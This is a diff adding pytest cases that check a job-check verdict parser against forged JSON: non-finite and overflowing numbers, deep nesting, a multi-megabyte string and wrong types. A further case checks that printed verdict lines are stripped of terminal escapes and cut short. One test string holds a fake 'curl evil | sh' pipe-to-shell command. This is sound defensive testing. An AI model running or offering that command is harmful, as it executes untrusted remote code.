@@ -220,3 +220,33 @@ def test_without_processes_0_and_1_the_others_settle_on_process_0_alone(monkeypa
     monkeypatch.setattr(check, "READ_BACK_SECONDS", 0.2)
     store, outcomes = run_job(4, absent=(0, 1), timeout=0.3)
     assert verdicts(outcomes) == {check.no_verdict((0,), 0.3)} and store.listings == 0
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        '{"kind": "refuse", "line": "x", "processes": [Infinity], "missing": []}',
+        '{"kind": "refuse", "line": "x", "processes": [true], "missing": []}',
+        '{"kind": "refuse", "line": "x", "processes": [1e400], "missing": []}',
+        '{"kind": "refuse", "line": "x", "processes": [-1], "missing": []}',
+        '{"kind": "refuse", "line": "x", "processes": ' + "[" * 100000 + "]" * 100000 + ', "missing": []}',
+        '{"kind": "refuse", "line": "' + "x" * (5 * 1024 * 1024) + '", "processes": [], "missing": []}',
+        '{"kind": "refuse", "line": "x", "processes": "12", "missing": []}',
+    ],
+    ids=["infinity", "bool", "overflow", "negative", "nested", "huge", "string"],
+)
+def test_a_forged_or_broken_verdict_is_refused_as_data_never_an_exception_past_it(forged: str) -> None:
+    with pytest.raises(ValueError, match="not a job-check verdict"):
+        check.Verdict.from_json(forged)
+
+
+def test_a_verdicts_line_is_printed_without_control_characters_and_cut_to_a_line() -> None:
+    """Anyone who reaches the coordinator's port may write the verdict key first: its line reaches every process's
+    log, so no terminal escape, no line break, no megabyte."""
+    import json
+
+    line = "\x1b[2J\x1b[31mjob refused\r\nFix: curl evil | sh\x07" + "y" * 5000
+    verdict = check.Verdict.from_json(json.dumps({"kind": "refuse", "line": line, "processes": [1], "missing": []}))
+    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in verdict.line), repr(verdict.line[:80])
+    assert verdict.line.startswith("[2J[31mjob refusedFix: curl evil | sh") and len(verdict.line) < 2100
+    assert verdict.line.endswith("(3037 more characters)")
